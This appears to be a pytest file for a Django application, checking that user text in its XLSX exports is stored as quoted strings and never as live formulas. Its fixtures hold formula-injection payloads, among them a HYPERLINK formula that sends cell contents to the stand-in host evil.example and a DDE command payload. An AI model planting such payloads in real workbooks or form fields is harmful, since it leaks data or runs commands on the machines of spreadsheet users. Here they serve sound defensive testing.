"""Formula injection: user text never becomes a live formula in any XLSX the application writes.

Every text that reaches a workbook is replaced by a payload; the files are read back and no cell
may be a formula, and every payload is a quote-prefixed string shown exactly as typed.
"""

import dataclasses
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import FORMULA_START
from inspections.services import checklist_export_xlsx
from inspections.tests.factories import ChecklistTemplateFactory, CriterionFactory, DomainFactory
from reports import exports
from reports.documents import samples
from reports.documents.followup import follow_up_xlsx
from reports.documents.summary import summary_xlsx
from units.models import UnitKind
from units.tests.factories import UnitFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C5,"Xem")'
PAYLOADS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _poison(value, payloads):
    """``value`` with every text in it (dataclass fields, lists, tuples) replaced by a payload."""
    if isinstance(value, str):
        return next(payloads)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {f.name: _poison(getattr(value, f.name), payloads) for f in dataclasses.fields(value)}
        return dataclasses.replace(value, **changes)
    if isinstance(value, list):
        return [_poison(v, payloads) for v in value]
    if isinstance(value, tuple):
        return tuple(_poison(v, payloads) for v in value)
    return value


def _cycle():
    while True:
        yield from PAYLOADS


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(data: bytes, *, expected: int = 1):
    cells = _cells(data)
    formulas = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
    assert formulas == []
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert len(risky) >= expected
    for cell in risky:
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix, f"{cell.parent.title}!{cell.coordinate}"
    return risky


def test_a_progress_text_is_no_live_link_in_the_follow_up_workbook():
    data = samples.follow_up(rows=3)
    row = dataclasses.replace(data.rows[0], latest_update=HYPERLINK)
    data = dataclasses.replace(data, rows=[row, *data.rows[1:]])

    risky = assert_no_live_formula(follow_up_xlsx(data))

    assert [c.value for c in risky] == [HYPERLINK]


def test_no_text_of_the_follow_up_workbook_runs_as_a_formula():
    data = _poison(samples.follow_up(rows=4), _cycle())
    assert_no_live_formula(follow_up_xlsx(data), expected=10)


def test_no_text_of_the_plan_summary_workbook_runs_as_a_formula():
    data = _poison(samples.plan_summary(visits=4), _cycle())
    assert_no_live_formula(summary_xlsx(data), expected=10)


@pytest.mark.django_db
def test_no_text_of_the_checklist_template_export_runs_as_a_formula():
    template = ChecklistTemplateFactory(content=False, title=HYPERLINK, scoring_note="-1", evidence_note="@x")
    domain = DomainFactory(template=template, code="1", title="+Lĩnh vực")
    CriterionFactory(domain=domain, code="1.1", title="=1+1", guidance="\t=cmd|' /C calc'!A0")

    risky = assert_no_live_formula(checklist_export_xlsx(template=template), expected=6)

    assert HYPERLINK in [c.value for c in risky]  # exported as typed: the import reads it back


@pytest.mark.django_db
def test_a_unit_name_is_no_formula_in_the_units_download(client, head, province):
    UnitFactory(name=HYPERLINK, short_name="@SUM(A1)", kind=UnitKind.COMMUNE, parent=province)
    client.force_login(head)

    response = client.get(reverse("dashboards:export_units"), {"format": "xlsx"})

    assert response.status_code == 200
    risky = assert_no_live_formula(b"".join(response.streaming_content), expected=2)
    assert {c.value for c in risky} == {HYPERLINK, "@SUM(A1)"}


def test_the_list_export_defuses_every_formula_start():
    rows = [[payload] for payload in PAYLOADS]
    data = exports.xlsx_file(["=header"], rows).read()
    assert len(assert_no_live_formula(data, expected=len(PAYLOADS) + 1)) == len(PAYLOADS) + 1
